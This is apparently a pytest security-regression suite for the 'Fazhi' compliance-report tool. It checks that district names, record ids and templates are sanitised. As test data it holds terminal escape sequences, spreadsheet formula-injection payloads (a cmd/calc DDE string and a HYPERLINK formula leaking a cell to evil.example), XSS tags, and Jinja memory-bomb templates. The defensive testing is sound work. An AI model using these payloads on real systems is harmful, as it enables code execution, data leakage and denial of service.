"""Hostile text in what Fazhi writes (issue 16, items 6 and 8–11): the attacks that broke it, now held.

A district name or a fact carrying terminal escapes, Markdown and raw HTML, or a spreadsheet formula;
a user template asking for a 2 GB string; --force onto a private file; a DOCX report of many records.
"""
from __future__ import annotations

import os
import re
import resource
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
import yaml

from conftest import DOC_CASE, DOC_DATE, DOC_RULES
from helpers import ROOT, run_fazhi

RULES = ("--rules", str(DOC_RULES), "--date", DOC_DATE)
LIMIT = 120
ESCAPES = "\x1b[2J\x1b]0;OWNED\x07\x1b[31m"  # clear the screen, retitle the window, turn the text red


def hostile_case(tmp_path: Path, name: str, record_id: str | None = None) -> Path:
    """The documents' sample case with the district's name (and a record's id) replaced."""
    case = tmp_path / "case"
    case.mkdir()
    data = yaml.safe_load((DOC_CASE / "facts.yaml").read_text(encoding="utf-8"))
    data["case"]["district"]["name"] = name
    if record_id is not None:
        data["facts"]["doc.decisions.items"]["records"][0]["id"] = record_id
    (case / "facts.yaml").write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return case


def no_control_characters(text: str) -> None:
    found = sorted({f"U+{ord(c):04X}" for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F})
    assert not found, f"control characters reached the output: {found}"


# --- 8. terminal escape injection -------------------------------------------------------------------

@pytest.mark.parametrize("command", [("check",), ("check", "--format", "markdown"), ("report",), ("memo",)])
def test_escape_sequences_in_a_district_name_never_reach_the_terminal(tmp_path, command):
    case = hostile_case(tmp_path, f"样例区{ESCAPES}", record_id=f"JC-01{ESCAPES}")
    result = run_fazhi(*command, str(case), *RULES, timeout=LIMIT)
    assert result.returncode in (0, 1), result.stderr
    no_control_characters(result.stdout + result.stderr)
    assert "样例区" in result.stdout and "OWNED" not in result.stdout  # the title string goes with its sequence


def test_fazhi_keeps_its_own_colours_and_only_those(tmp_path):
    """A terminal gets the verdict colours; a red sequence in the district's name is dropped first."""
    from fazhi.app.check import check
    from fazhi.render.render_text import render_text

    case = hostile_case(tmp_path, f"\x1b[31m样例区{ESCAPES}")
    result = check(str(case), [str(DOC_RULES)], on=__import__("datetime").date(2021, 3, 1))
    text = render_text(result.evaluation, "zh", color=True)
    first, rest = text.split("\n", 1)
    assert first == "样例区 2020年度 法治政府建设合规检查"
    import click
    from fazhi.render.render_text import VERDICT_TEXT
    from fazhi.vocabulary import Verdict
    own = [click.style(f"[{zh}]", fg=fg, bold=v is Verdict.GAP) for v, (zh, _, fg) in VERDICT_TEXT.items()]
    assert any(tag in rest for tag in own)
    for tag in own:
        rest = rest.replace(tag, "")
    no_control_characters(rest)  # every escape sequence left was one of Fazhi's verdict tags


def test_an_error_message_naming_a_hostile_file_is_made_safe(tmp_path):
    bad = tmp_path / f"facts{ESCAPES}.yaml"
    bad.write_text("case: [\n", encoding="utf-8")
    result = run_fazhi("check", str(bad), *RULES, timeout=LIMIT)
    assert result.returncode == 2
    no_control_characters(result.stderr)
    assert "facts[2J]0;OWNED[31m.yaml" not in result.stderr and "facts" in result.stderr


def test_terminal_drops_sequences_whole_and_keeps_newlines_and_tabs():
    from fazhi.render.safe_text import terminal
    assert terminal("a\x1b[2Jb\x1b]0;OWNED\x07c\x1b[31md\re\x9b31mf\tg\nh\u202eI") == "abcdef\tg\nhI"
    assert terminal("x\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\y") == "xlinky"  # a hidden hyperlink


# --- 9. formula injection in the questionnaire -------------------------------------------------------

@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
                                  "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1"])
def test_a_formula_as_district_name_is_written_as_text(tmp_path, name):
    out = tmp_path / "q.xlsx"
    result = run_fazhi("questionnaire", "--rules", str(DOC_RULES), "--district", name, "--out", str(out), timeout=LIMIT)
    assert result.returncode == 0, result.stderr
    book = openpyxl.load_workbook(out)
    formulas = [f"{ws.title}!{c.coordinate}" for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    cells = [c for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str) and name.strip() in c.value]
    assert [c.value for c in cells] == ["'" + name.replace("\t", "", 0)], "a leading = + - @ or tab gets an apostrophe"
    assert cells[0].data_type == "s"


def test_the_apostrophe_is_dropped_when_the_workbook_is_read_back():
    from fazhi.intake.workbook import clean, text
    from fazhi.render.safe_text import spreadsheet_text
    for name in ("=cmd|' /C calc'!A0", "@x", "普通区", "'quoted"):
        assert clean(spreadsheet_text(name)) == name and text(spreadsheet_text(name)) == name


# --- 10. Markdown injection ----------------------------------------------------------------------------

def test_markdown_report_carries_no_raw_html_and_no_heading_from_a_name(tmp_path):
    case = hostile_case(tmp_path, "<script>alert(1)</script>区\n# 伪造的标题\n- 伪造的列表",
                        record_id="<img src=x onerror=alert(1)>|JC")
    for command in ("report", "memo"):
        out = tmp_path / f"{command}.md"
        result = run_fazhi(command, str(case), *RULES, "--out", str(out), timeout=LIMIT)
        assert result.returncode == 0, result.stderr
        text = out.read_text(encoding="utf-8")
        assert "<script>" not in text and "<img" not in text
        assert "&lt;script&gt;alert(1)&lt;/script&gt;区" in text
        assert not [line for line in text.splitlines() if line.startswith(("# 伪造", "- 伪造"))]
        assert "\\# 伪造的标题" in text
        tables = [line for line in text.splitlines() if "&lt;img" in line]
        assert tables and all("\\|JC" in line for line in tables), "a | in a record id never opens a column"


def test_check_markdown_escapes_the_name_too(tmp_path):
    case = hostile_case(tmp_path, "<script>x</script>\n# 伪造")
    result = run_fazhi("check", str(case), *RULES, "--format", "markdown", timeout=LIMIT)
    assert "<script>" not in result.stdout and "\n# 伪造" not in result.stdout


def test_markdown_text_escapes_line_starts_and_html():
    from fazhi.render.safe_text import markdown_cell, markdown_text
    assert markdown_text("# a\n> b\n1. c\n```\n---", inline=False) == "\\# a\n&gt; b\n1\\. c\n\\`\\`\\`\n\\---"
    assert markdown_text("<b>&</b> [x](javascript:y)") == "&lt;b&gt;&amp;&lt;/b&gt; \\[x\\](javascript:y)"
    assert markdown_cell("a|b\nc") == "a\\|b<br>c"


# --- 11. --force keeps the mode, writes are synced, templates are bounded -----------------------------

def test_force_onto_a_private_file_keeps_it_private(tmp_path):
    out = tmp_path / "report.md"
    out.write_text("old", encoding="utf-8")
    out.chmod(0o600)
    result = run_fazhi("report", str(DOC_CASE), *RULES, "--out", str(out), "--force", timeout=LIMIT)
    assert result.returncode == 0, result.stderr
    assert out.stat().st_mode & 0o777 == 0o600 and out.read_text(encoding="utf-8") != "old"


def test_the_file_and_its_folder_are_synced_before_and_after_the_rename(tmp_path, monkeypatch):
    from fazhi.render import output
    events: list[str] = []
    real_fsync, real_replace = os.fsync, os.replace

    def fsync(fd):
        events.append("folder" if os.path.isdir(f"/proc/self/fd/{fd}") else "file")
        real_fsync(fd)

    def replace(src, dst):
        events.append("rename")
        real_replace(src, dst)

    monkeypatch.setattr(output.os, "fsync", fsync)
    monkeypatch.setattr(output.os, "replace", replace)
    output.write_atomic(str(tmp_path / "x.json"), "{}\n")
    assert events == ["file", "rename", "folder"]


BOMBS = [
    ("{{ 'a' * 2000000000 }}", "a value of 1 × 2,000,000,000"),
    ("{{ ['a'] * 2000000000 }}", "a value of 1 × 2,000,000,000"),
    ("{{ 'a' | center(2000000000) }}", "a size of 2,000,000,000"),
    ("{{ '{:2000000000}'.format(1) }}", "a format width"),
    ("{{ '%2000000000s' % 'a' }}", "a format width"),
    ("{{ ('a' * 60000000) | replace('', 'bb') }}", "a replacement"),
    ("{{ 2 ** 2000000000 }}", "a power of 2,000,000,000"),
    ("{{ (10 ** 10000) ** 10000 }}", "a number of about 332,200,000 bits"),
    ("{% for i in range(3000) %}{{ 'x' * 60000000 }}{% endfor %}", "the rendered output"),
    ("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}", "range()共需1,100,000个数，每份文档上限为1,000,000"),
]


@pytest.mark.parametrize("template, message", BOMBS, ids=[b[1] for b in BOMBS])
def test_a_template_asking_for_gigabytes_fails_clearly_within_bounded_memory(tmp_path, template, message):
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "gap_report.md.j2").write_text(template + "\n", encoding="utf-8")
    limit = 1024 * 1024 * 1024  # 1 GB of address space: the 2 GB string it used to build cannot fit

    def bounded() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    result = subprocess.run([sys.executable, "-m", "fazhi", "report", str(DOC_CASE), *RULES, "--templates", str(folder),
                             "--out", str(tmp_path / "r.md")], cwd=ROOT, capture_output=True, text=True, timeout=LIMIT,
                            preexec_fn=bounded)
    assert result.returncode == 2, result.stderr[-2000:]
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    assert f"{folder / 'gap_report.md.j2'}" in result.stderr and "模板有误：" + message in result.stderr
    if "range()" not in message:  # Chinese by default; English with --lang en (below)
        assert "超出渲染文档67,108,864字符的上限" in result.stderr
    assert not (tmp_path / "r.md").exists()


def test_the_template_limit_in_english(tmp_path):
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "gap_report.md.j2").write_text("{{ 'a' * 2000000000 }}\n", encoding="utf-8")
    result = run_fazhi("report", str(DOC_CASE), *RULES, "--templates", str(folder), "--lang", "en", timeout=LIMIT)
    assert result.returncode == 2
    assert (f"{folder / 'gap_report.md.j2'}:1: template error: a value of 1 × 2,000,000,000 is beyond the limit of "
            "67,108,864 characters for a rendered document") in result.stderr


def test_ordinary_template_arithmetic_still_works(tmp_path):
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "gap_report.md.j2").write_text("{{ '-' * 3 }} {{ 2 ** 10 }} {{ '%05d' % 7 }} {{ '{:>4}'.format(1) }} "
                                             "{{ 'x' | center(5) }}|{{ 'ab' | replace('a', 'c') }}\n", encoding="utf-8")
    result = run_fazhi("report", str(DOC_CASE), *RULES, "--templates", str(folder), timeout=LIMIT)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("--- 1024 00007    1   x  |cb")


# --- 6. DOCX: time linear in the records -------------------------------------------------------------

def test_docx_report_time_grows_linearly_with_records(tmp_path):
    """The bench's case at 1,000 and 4,000 records: 4× the records must not take much over 4× the CPU
    (quadratic took 16×; a fixed cost makes the ratio smaller, never larger)."""
    sys.path.insert(0, str(ROOT / "bench"))
    import bench_docx

    def cpu() -> float:
        usage = resource.getrusage(resource.RUSAGE_SELF)
        return usage.ru_utime + usage.ru_stime

    seconds = {}
    for n in (1000, 4000):
        bench_docx.write_case(tmp_path / f"case-{n}", n)
        from fazhi.app.check import check
        from fazhi.documents.build import build_report
        from fazhi.documents.docx import report_docx
        result = check(str(tmp_path / f"case-{n}"), lang="zh", on=bench_docx.DAY)
        view = build_report(result.evaluation, "zh", bench_docx.DAY, result.progress, result.score)
        start = cpu()
        report_docx(view)
        seconds[n] = cpu() - start
    assert seconds[4000] < 6 * seconds[1000] + 0.5, seconds
    assert seconds[4000] < 20, seconds
